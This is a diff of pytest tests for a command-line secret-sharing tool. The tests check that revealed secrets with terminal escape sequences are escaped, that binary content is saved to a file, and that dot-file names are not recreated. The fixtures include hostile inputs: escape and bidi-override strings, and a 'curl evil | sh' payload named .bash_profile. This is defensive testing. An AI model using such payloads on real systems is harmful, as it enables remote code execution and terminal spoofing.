@@ -680,3 +680,94 @@ def test_passphrase_and_passphrase_file_together_are_a_usage_error(
     )
     assert outcome.code == ExitCode.USAGE
     assert fake.hits["create"] == 0
+
+
+# -- what reaches a terminal, and what reaches a directory ------------------------------------
+
+HOSTILE_TEXT = "hi\x1b]0;owned\x07 \x1b[2J\rgone\u202eexe.txt\nnext\tline\n"
+
+
+@pytest.fixture
+def stdout_is_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("atopos.cli.secret.is_tty", lambda stream: stream is sys.stdout)
+
+
+def file_secret(fake: FakeServer, content: bytes, name: str) -> str:
+    key = os.urandom(32)
+    metadata = Metadata(kind="file", size=len(content), name=name)
+    envelope = seal(content, metadata, key, random_bytes=os.urandom)
+    return str(ShareLink(SERVER, fake.add(envelope), key))
+
+
+def test_escape_sequences_are_shown_not_obeyed_on_a_terminal(
+    fake: FakeServer, stdout_is_a_terminal: None
+) -> None:
+    link, _ = create_text(HOSTILE_TEXT.encode())
+    outcome = atopos("secret", "reveal", link)
+    assert outcome.code == 0, outcome.stderr
+    assert outcome.stdout == (b"hi\\x1b]0;owned\\x07 \\x1b[2J\\x0dgone\\u202eexe.txt\nnext\tline\n")
+
+
+def test_a_pipe_gets_the_exact_bytes(fake: FakeServer) -> None:
+    link, _ = create_text(HOSTILE_TEXT.encode())
+    assert atopos("secret", "reveal", link).stdout == HOSTILE_TEXT.encode()
+
+
+def test_a_large_text_streams_to_a_terminal_escaped(
+    fake: FakeServer, stdout_is_a_terminal: None
+) -> None:
+    text = ("line \x1b[1m" * 200_000).encode()  # past the 1 MiB held back
+    link, _ = create_text(text)
+    outcome = atopos("secret", "reveal", link)
+    assert outcome.code == 0, outcome.stderr
+    assert outcome.stdout == text.replace(b"\x1b", b"\\x1b")
+
+
+def test_a_text_file_is_shown_on_a_terminal(
+    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    link = file_secret(fake, b"notes \x1b[31m\n", "notes.txt")
+    outcome = atopos("secret", "reveal", link)
+    assert (outcome.code, outcome.stdout) == (0, b"notes \\x1b[31m\n")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_binary_content_is_saved_instead_of_dumped_on_a_terminal(
+    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "secret.bin").write_bytes(b"older")
+    content = b"\x89PNG\r\n\x1a\n\x00\x00" + os.urandom(2_000_000)
+    link = file_secret(fake, content, ".bashrc")
+    outcome = atopos("secret", "reveal", link)
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    saved = tmp_path / "secret (1).bin"
+    assert outcome.stderr == (
+        "Error: The secret is not text, so it was not printed on the terminal; it was saved "
+        f"to {saved} instead (choose where with -o PATH).\n"
+    )
+    assert saved.read_bytes() == content
+    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
+    assert (tmp_path / "secret.bin").read_bytes() == b"older"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["secret (1).bin", "secret.bin"]
+
+
+def test_binary_content_still_goes_to_a_pipe(fake: FakeServer) -> None:
+    content = b"\x00\x01\x02" + os.urandom(1000)
+    link = file_secret(fake, content, "blob")
+    assert atopos("secret", "reveal", link).stdout == content
+
+
+def test_a_dot_file_name_is_not_recreated_in_the_directory(
+    fake: FakeServer, tmp_path: Path
+) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "bash_profile").write_text("mine")
+    link = file_secret(fake, b"curl evil | sh\n", ".bash_profile")
+    outcome = atopos("secret", "reveal", link, "-o", str(home))
+    assert outcome.code == 0, outcome.stderr
+    assert sorted(path.name for path in home.iterdir()) == ["bash_profile", "bash_profile (1)"]
+    assert (home / "bash_profile").read_text() == "mine"
+    assert (home / "bash_profile (1)").read_bytes() == b"curl evil | sh\n"
